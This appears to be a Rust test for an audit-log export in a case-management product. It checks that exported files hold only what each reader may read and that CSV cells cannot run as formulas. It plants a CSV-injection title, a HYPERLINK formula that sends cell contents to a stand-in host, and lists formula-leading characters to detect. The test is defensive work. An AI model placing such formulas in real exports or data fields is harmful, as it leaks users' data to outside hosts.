//! L5: what is taken out of the log is what its reader may read, and text only.

use std::sync::Arc;

use domain::audit::{ArchivedUpTo, Event, ExportFormat, LogEntry, LogFilter, Personal};
use domain::ids::{CaseId, FirmId, UserId};

use super::ground::Ground;
use super::{Seen, Verdict, cannot};
use crate::Backend;
use crate::audit::{Book, COLUMNS, InWords, LogKind, Order, Told};

/// A case's title as somebody would write it who wants a spreadsheet to call home.
const HOSTILE: &str = "=HYPERLINK(\"https://check.invalid/?\"&A1);@SUM(1)";

/// Titles alone, as they stand in the log: whatever a sentence adds would hide how they begin.
struct Bare;

impl InWords for Bare {
    fn title(&self, _: LogKind, _: Option<ArchivedUpTo>) -> String {
        "check".to_owned()
    }

    fn headings(&self) -> [&'static str; COLUMNS] {
        ["check"; COLUMNS]
    }

    fn told(&self, entry: &LogEntry) -> Told {
        let what = match &entry.event {
            Event::CaseOpened { title, .. } => title.to_string(),
            other => other.name().to_owned(),
        };
        Told {
            actor: entry.actor.clone(),
            kind: String::new(),
            what,
            source: entry.address_source.name().to_owned(),
        }
    }

    fn fits(&self, _: &LogEntry) -> bool {
        true
    }
}

/// The assigned person's file holds every entry that they may read, and a title that is a formula as text; the files of an unassigned colleague
/// and of another firm hold nothing of the case.
pub(super) async fn a_file_holds_what_its_reader_may_read(backend: &Backend) -> Verdict {
    let mut ground = Ground::make(backend).await?;
    let case = CaseId(ground.case);
    ground.be_ana().await?;
    let opened = Event::CaseOpened {
        case,
        number: "check".to_owned(),
        title: Personal::of(case, HOSTILE.to_owned()),
    };
    ground.append(&opened).await?;
    let (firm, ana) = (FirmId(ground.firm), UserId(ground.ana.id));
    let file = taken_out(backend, &mut ground, (firm, ana), ExportFormat::Csv).await?;
    let rows = rows(&file)?;
    let readable = ground.count("select count(*) from log_entries").await?;
    if i64::try_from(rows.len()).ok() != Some(readable) || readable < 2 {
        return Err(format!(
            "the assigned person may read {readable} entries, and the file holds {}",
            rows.len()
        ));
    }
    let cells: Vec<&String> = rows.iter().flatten().collect();
    if let Some(formula) = cells
        .iter()
        .find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
    {
        return Err(format!("a cell is a formula: {formula}"));
    }
    if !cells.iter().any(|cell| cell.replace('\'', "") == HOSTILE) {
        return Err("the title does not stand in the file".to_owned());
    }
    let mut attempts = 1;
    for stranger in ground.strangers() {
        ground.be("matterlock_app", Some(&stranger.secret)).await?;
        ground
            .append(&Event::LogRead {
                case: None,
                filter: String::new(),
            })
            .await?;
        for format in ExportFormat::ALL {
            attempts += 1;
            let file = taken_out(backend, &mut ground, (stranger.firm, stranger.user), format).await?;
            let file = String::from_utf8_lossy(&file);
            if !file.contains("log_read") {
                return Err(format!("the file of {} does not hold their own entry", stranger.who));
            }
            if file.contains(&case.to_string()) || file.contains("HYPERLINK") {
                return Err(format!("the file of {} holds something of the case", stranger.who));
            }
        }
    }
    Ok(Seen {
        attempts,
        detail: format!(
            "a file of {readable} entries: all that the assigned person may read, a formula as text; files of another firm and an unassigned colleague hold nothing of the case"
        ),
    })
}

/// A whole file, by the product's own writer, for whoever the ground is at present.
async fn taken_out(
    backend: &Backend,
    ground: &mut Ground,
    (firm, reader): (FirmId, UserId),
    format: ExportFormat,
) -> Result<Vec<u8>, String> {
    let book = Book::of_the_firm(backend, firm, reader);
    let order = Order {
        filter: LogFilter::default(),
        format,
        words: Arc::new(Bare),
    };
    let mut file = order.head().map_err(cannot)?;
    let mut below = Some(book.newest(ground.conn()).await.map_err(cannot)? + 1);
    while let Some(before) = below {
        let part = order.part(book, ground.conn(), before).await.map_err(cannot)?;
        file.extend(part.bytes);
        below = part.next;
    }
    Ok(file)
}

/// As a spreadsheet reads them, without the headings.
fn rows(file: &[u8]) -> Result<Vec<Vec<String>>, String> {
    let mut reader = csv::Reader::from_reader(file);
    let mut rows = Vec::new();
    for record in reader.records() {
        rows.push(record.map_err(cannot)?.iter().map(str::to_owned).collect());
    }
    Ok(rows)
}
